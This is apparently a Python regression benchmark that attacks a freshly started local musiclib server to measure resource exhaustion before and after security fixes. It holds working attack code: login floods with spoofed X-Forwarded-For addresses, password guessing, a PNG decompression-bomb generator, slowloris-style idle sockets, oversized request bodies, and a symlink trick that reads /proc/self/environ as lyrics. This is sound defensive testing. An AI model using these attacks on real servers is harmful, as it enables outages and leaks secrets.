#!/usr/bin/env python3
"""The attacks of issue 33, tried from outside on a musiclib binary, each on a fresh server
(embedded default), printing what each cost the server: peak resident memory (VmHWM), file
descriptors, ffmpeg processes, files written, and the statuses clients got.

    benches/attacks.py BINARY [ATTACK...]

Run it on two builds (the one before a fix and the one after) to compare; benches/attacks.sh
runs it on the release binary. Attacks: signins, signins_spread, guesses, cover_bomb,
big_bodies, idle_sockets, live_encodes, sidecar, secret_file. Standard library only; ffmpeg makes the
audio.
"""

import asyncio
import json
import os
import shutil
import signal
import socket
import struct
import subprocess
import sys
import tempfile
import threading
import time
import urllib.error
import urllib.request
import zlib
from concurrent.futures import ThreadPoolExecutor

BINARY = None


def free_port():
    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        return s.getsockname()[1]


class Server:
    """A musiclib `serve` on a fresh DATA_DIR, with `env` added."""

    def __init__(self, env=None, data=None):
        self.data = data or tempfile.mkdtemp(prefix="musiclib-attack-")
        self.port = free_port()
        self.base = f"http://127.0.0.1:{self.port}"
        full = dict(os.environ)
        full.update({
            "DATA_DIR": self.data,
            "BIND_ADDRESS": f"127.0.0.1:{self.port}",
            "RUST_LOG": "warn",
            "SOUND_ANALYSIS": "false",
            "COVERART_ENABLED": "false",
            "LRCLIB_BASE_URL": "http://127.0.0.1:9",
        })
        full.update(env or {})
        self.log = open(os.path.join(self.data, "server.log"), "ab")
        self.process = subprocess.Popen([BINARY, "serve"], env=full, stdout=self.log,
                                        stderr=self.log)
        for _ in range(300):
            try:
                urllib.request.urlopen(self.base + "/health", timeout=1)
                return
            except Exception:
                if self.process.poll() is not None:
                    raise RuntimeError("the server stopped: " + self.tail())
                time.sleep(0.1)
        raise RuntimeError("the server did not start: " + self.tail())

    def tail(self):
        with open(os.path.join(self.data, "server.log"), "rb") as log:
            return log.read()[-2000:].decode(errors="replace")

    def status(self, field):
        with open(f"/proc/{self.process.pid}/status") as status:
            for line in status:
                if line.startswith(field + ":"):
                    return int(line.split()[1])
        return 0

    def peak_mib(self):
        return self.status("VmHWM") / 1024

    def fds(self):
        return len(os.listdir(f"/proc/{self.process.pid}/fd"))

    def children(self, name):
        count = 0
        for pid in os.listdir("/proc"):
            if not pid.isdigit():
                continue
            try:
                with open(f"/proc/{pid}/stat") as stat:
                    fields = stat.read().rsplit(")", 1)[1].split()
                with open(f"/proc/{pid}/comm") as comm:
                    command = comm.read().strip()
            except OSError:
                continue
            if int(fields[1]) == self.process.pid and command == name:
                count += 1
        return count

    def stop(self, keep=False):
        self.process.send_signal(signal.SIGTERM)
        try:
            self.process.wait(timeout=30)
        except subprocess.TimeoutExpired:
            self.process.kill()
        self.log.close()
        if not keep:
            shutil.rmtree(self.data, ignore_errors=True)


def call(method, url, body=None, token=None, headers=None, timeout=120):
    """(status, parsed JSON or bytes)."""
    headers = dict(headers or {})
    if token:
        headers["Authorization"] = "Bearer " + token
    data = body
    if isinstance(body, (dict, list)):
        data = json.dumps(body).encode()
        headers.setdefault("Content-Type", "application/json")
    request = urllib.request.Request(url, data=data, method=method, headers=headers)
    try:
        with urllib.request.urlopen(request, timeout=timeout) as response:
            raw = response.read()
            status = response.status
    except urllib.error.HTTPError as error:
        raw = error.read()
        status = error.code
    except Exception as error:  # a reset connection, a timeout
        return (type(error).__name__, None)
    try:
        return (status, json.loads(raw))
    except Exception:
        return (status, raw)


def register(server, name="attacker", password="long enough password"):
    status, body = call("POST", server.base + "/api/v1/auth/register",
                        {"username": name, "password": password})
    assert status == 201, (status, body)
    return body["access_token"]


def tally(statuses):
    counts = {}
    for status in statuses:
        counts[str(status)] = counts.get(str(status), 0) + 1
    return dict(sorted(counts.items()))


def report(name, **figures):
    print(json.dumps({"attack": name, **figures}), flush=True)


def tone(path, seconds=30, codec=("-c:a", "libmp3lame", "-b:a", "128k")):
    subprocess.run(["ffmpeg", "-v", "error", "-y", "-f", "lavfi", "-i",
                    f"sine=f=440:d={seconds}", *codec, path], check=True)


def upload(server, token, path, name=None):
    boundary = "attack-boundary"
    with open(path, "rb") as file:
        payload = file.read()
    name = name or os.path.basename(path)
    body = (f"--{boundary}\r\nContent-Disposition: form-data; name=\"file\"; "
            f"filename=\"{name}\"\r\nContent-Type: application/octet-stream\r\n\r\n").encode()
    body += payload + f"\r\n--{boundary}--\r\n".encode()
    return call("POST", server.base + "/api/v1/tracks/upload", body, token,
                {"Content-Type": f"multipart/form-data; boundary={boundary}"})


def many(count, work):
    with ThreadPoolExecutor(max_workers=count) as pool:
        return list(pool.map(work, range(count)))


# ---------------------------------------------------------------- the attacks

def signins():
    """300 logins at once for names that do not exist."""
    server = Server()
    try:
        before = server.peak_mib()
        statuses = many(300, lambda index: call(
            "POST", server.base + "/api/v1/auth/login",
            {"username": f"nobody{index}", "password": "some password"})[0])
        report("signins", requests=300, statuses=tally(statuses),
               peak_rss_mib=round(server.peak_mib(), 1), idle_rss_mib=round(before, 1))
    finally:
        server.stop()


def signins_spread():
    """300 logins at once for names that do not exist, from 300 addresses (as a proxy in
    TRUSTED_PROXIES reports them): no throttle budget stops them, only the password work's
    bound."""
    server = Server({"TRUSTED_PROXIES": "127.0.0.1"})
    try:
        before = server.peak_mib()
        statuses = many(300, lambda index: call(
            "POST", server.base + "/api/v1/auth/login",
            {"username": f"nobody{index}", "password": "some password"},
            headers={"X-Forwarded-For": f"10.{index // 250}.{index % 250}.1"})[0])
        report("signins_spread", requests=300, statuses=tally(statuses),
               peak_rss_mib=round(server.peak_mib(), 1), idle_rss_mib=round(before, 1))
    finally:
        server.stop()


def guesses():
    """60 guesses at once at one account's password."""
    server = Server()
    try:
        register(server, "victim")
        statuses = many(60, lambda index: call(
            "POST", server.base + "/api/v1/auth/login",
            {"username": "victim", "password": f"guess {index}"})[0])
        checked = sum(1 for status in statuses if status == 401)
        report("guesses", requests=60, statuses=tally(statuses), passwords_checked=checked,
               peak_rss_mib=round(server.peak_mib(), 1))
    finally:
        server.stop()


def png_bomb(width, height):
    """A real PNG of width × height black pixels: a few hundred KB, 3 bytes a pixel decoded."""
    def chunk(kind, data):
        return (struct.pack(">I", len(data)) + kind + data
                + struct.pack(">I", zlib.crc32(kind + data) & 0xFFFFFFFF))
    row = b"\x00" + b"\x00" * (width * 3)
    compressor = zlib.compressobj(9)
    compressed = []
    for _ in range(height):
        compressed.append(compressor.compress(row))
    compressed.append(compressor.flush())
    header = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    return (b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", b"".join(compressed))
            + chunk(b"IEND", b""))


def cover_bomb():
    """An MP3 whose embedded cover is a 12000 × 12000 PNG, then a dozen thumbnail sizes."""
    work = tempfile.mkdtemp()
    server = Server()
    try:
        token = register(server)
        plain = os.path.join(work, "plain.mp3")
        tone(plain)
        bomb = os.path.join(work, "bomb.png")
        with open(bomb, "wb") as file:
            file.write(png_bomb(12000, 12000))
        song = os.path.join(work, "bomb.mp3")
        subprocess.run(["ffmpeg", "-v", "error", "-y", "-i", plain, "-i", bomb, "-map", "0",
                        "-map", "1", "-c", "copy", "-id3v2_version", "3", "-metadata:s:v",
                        "comment=Cover (front)", "-metadata", "album=Bomb",
                        "-metadata", "artist=Attacker", "-metadata", "title=Bomb", song],
                       check=True)
        status, track = upload(server, token, song)
        track_id = track["id"]
        album = None
        for _ in range(600):
            status, track = call("GET", f"{server.base}/api/v1/tracks/{track_id}", token=token)
            if track.get("metadata_status") not in ("pending", None):
                album = track.get("album_id")
                break
            time.sleep(0.2)
        sizes = [40, 100, 150, 200, 260, 320, 400, 512, 640, 800, 1000, 1200]
        statuses = many(len(sizes), lambda index: call(
            "GET", f"{server.base}/api/v1/tracks/{track_id}/cover?size={sizes[index]}",
            token=token, timeout=300)[0])
        thumbs = 0
        for root, _, files in os.walk(os.path.join(server.data, "media", "covers", "thumbs")):
            thumbs += len(files)
        report("cover_bomb", png_bytes=os.path.getsize(bomb), has_cover=track.get("has_cover"),
               album=bool(album), thumbnail_statuses=tally(statuses), thumbnails_written=thumbs,
               peak_rss_mib=round(server.peak_mib(), 1))
    finally:
        server.stop()
        shutil.rmtree(work, ignore_errors=True)


class Endless:
    """A body of `size` bytes produced as it is sent (never held in the client's memory)."""

    def __init__(self, size):
        self.left = size

    def read(self, amount=-1):
        amount = self.left if amount < 0 else min(amount, self.left)
        self.left -= amount
        return b"\x00" * amount


def send_body(server, method, path, size, token=None, content_type="image/png"):
    """Sends `size` bytes as the body; the status and the time it took."""
    import http.client
    connection = http.client.HTTPConnection("127.0.0.1", server.port, timeout=600)
    headers = {"Content-Type": content_type, "Content-Length": str(size)}
    if token:
        headers["Authorization"] = "Bearer " + token
    started = time.time()
    try:
        connection.putrequest(method, path)
        for key, value in headers.items():
            connection.putheader(key, value)
        connection.endheaders()
        body = Endless(size)
        sent = 0
        try:
            while True:
                block = body.read(1 << 20)
                if not block:
                    break
                connection.send(block)
                sent += len(block)
        except OSError:
            pass  # the server answered and closed before the whole body
        status = connection.getresponse().status
    except Exception as error:
        status = type(error).__name__
        sent = None
    finally:
        connection.close()
    return status, round(time.time() - started, 1), sent


def big_bodies():
    """A 400 MB playlist cover, a 400 MB cleanup request from a non-admin, a 16 MB login."""
    server = Server()
    try:
        token = register(server)
        _, playlist = call("POST", server.base + "/api/v1/playlists", {"name": "x"}, token)
        results = {}
        for name, method, path, size, who in [
            ("playlist_cover_400MB", "PUT", f"/api/v1/playlists/{playlist['id']}/cover",
             400 << 20, token),
            ("cleanup_400MB_not_admin", "POST", "/api/v1/storage/cleanup", 400 << 20, token),
            ("login_16MB", "POST", "/api/v1/auth/login", 16 << 20, None),
        ]:
            status, seconds, sent = send_body(server, method, path, size, who,
                                              "application/json")
            results[name] = {"status": status, "seconds": seconds,
                             "bytes_sent_before_answer": sent}
        report("big_bodies", **results, peak_rss_mib=round(server.peak_mib(), 1))
    finally:
        server.stop()


def idle_sockets():
    """2,000 sockets that send nothing and 200 that send part of the HTTP/2 preface."""
    server = Server({"HTTP_HEADER_TIMEOUT_SECONDS": "5"})
    sockets = []
    try:
        baseline = server.fds()
        for index in range(2200):
            s = socket.socket()
            s.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))
            try:
                s.connect(("127.0.0.1", server.port))
            except OSError:
                break
            if index >= 2000:
                s.send(b"PRI * HTTP/2.0\r\n")
            sockets.append(s)
        time.sleep(1)
        held_at_once = server.fds() - baseline
        time.sleep(10)
        held_after = server.fds() - baseline
        status, _ = call("GET", server.base + "/health")
        report("idle_sockets", opened=len(sockets), header_timeout_s=5,
               fds_held_after_1s=held_at_once, fds_held_after_11s=held_after,
               health_after=status)
    finally:
        for s in sockets:
            s.close()
        server.stop()


def live_encodes():
    """One user opens 20 live transcodes (Subsonic stream with a format) at once."""
    work = tempfile.mkdtemp()
    server = Server()
    try:
        token = register(server)
        song = os.path.join(work, "long.flac")
        tone(song, 600, ("-c:a", "flac"))
        _, track = upload(server, token, song)
        _, app = call("GET", server.base + "/api/v1/users/me/legacy-password", token=token)
        query = f"u=attacker&p={app['password']}&v=1.16.1&c=attack&id={track['id']}"
        results = []
        streams = []

        def open_stream(index):
            request = urllib.request.Request(
                f"{server.base}/rest/stream?{query}&format=opus&timeOffset={index}")
            try:
                response = urllib.request.urlopen(request, timeout=60)
                response.read(1024)  # started, then held open without reading
                streams.append(response)
                results.append(response.status)
            except urllib.error.HTTPError as error:
                results.append(error.code)
            except Exception as error:
                results.append(type(error).__name__)

        many(20, open_stream)
        time.sleep(2)
        running = server.children("ffmpeg")
        report("live_encodes", requests=20, statuses=tally(results), ffmpeg_running=running,
               peak_rss_mib=round(server.peak_mib(), 1))
        for response in streams:
            response.close()
    finally:
        server.stop()
        shutil.rmtree(work, ignore_errors=True)


def sidecar():
    """A sidecar .lrc that is a link to /proc/self/environ, read as lyrics by any user."""
    folder = tempfile.mkdtemp()
    server = None
    try:
        tone(os.path.join(folder, "song.mp3"))
        os.symlink("/proc/self/environ", os.path.join(folder, "song.lrc"))
        server = Server({"LOCAL_MEDIA_IMPORT_PATH": folder, "ADMIN_USERNAME": "root",
                         "ADMIN_PASSWORD": "root password", "SECRET_MARKER": "sekrit-in-env"})
        _, login = call("POST", server.base + "/api/v1/auth/login",
                        {"username": "root", "password": "root password"})
        admin = login["access_token"]
        _, job = call("POST", server.base + "/api/v1/sources/local_folder/scan", token=admin)
        for _ in range(300):
            _, state = call("GET", f"{server.base}/api/v1/jobs/{job['job_id']}", token=admin)
            if state.get("state") in ("succeeded", "failed"):
                break
            time.sleep(0.2)
        reader = register(server, "reader")
        _, tracks = call("GET", server.base + "/api/v1/tracks", token=reader)
        track = tracks["items"][0]["id"]
        status, lyrics = call("GET", f"{server.base}/api/v1/tracks/{track}/lyrics", token=reader)
        text = json.dumps(lyrics)
        report("sidecar", status=status, source=(lyrics or {}).get("source"),
               environment_leaked="sekrit-in-env" in text)
    finally:
        if server:
            server.stop()
        shutil.rmtree(folder, ignore_errors=True)


def secret_file():
    """A legacy_secret_key file cut short (10 characters): is it replaced (every app password
    lost)?"""
    data = tempfile.mkdtemp()
    try:
        first = Server(data=data)
        first.stop(keep=True)
        path = os.path.join(data, "legacy_secret_key")
        with open(path) as file:
            original = file.read().strip()
        with open(path, "w") as file:
            file.write(original[:10])
        try:
            second = Server(data=data)
            second.stop(keep=True)
            started = True
        except RuntimeError:
            started = False
        with open(path) as file:
            after = file.read().strip()
        report("secret_file", server_started=started, file_replaced=after != original[:10])
    finally:
        shutil.rmtree(data, ignore_errors=True)


ATTACKS = {
    "signins": signins,
    "signins_spread": signins_spread,
    "guesses": guesses,
    "cover_bomb": cover_bomb,
    "big_bodies": big_bodies,
    "idle_sockets": idle_sockets,
    "live_encodes": live_encodes,
    "sidecar": sidecar,
    "secret_file": secret_file,
}


def main():
    global BINARY
    if len(sys.argv) < 2:
        print(__doc__, file=sys.stderr)
        sys.exit(2)
    BINARY = os.path.abspath(sys.argv[1])
    chosen = sys.argv[2:] or list(ATTACKS)
    for name in chosen:
        try:
            ATTACKS[name]()
        except Exception as error:
            report(name, error=repr(error))


if __name__ == "__main__":
    main()
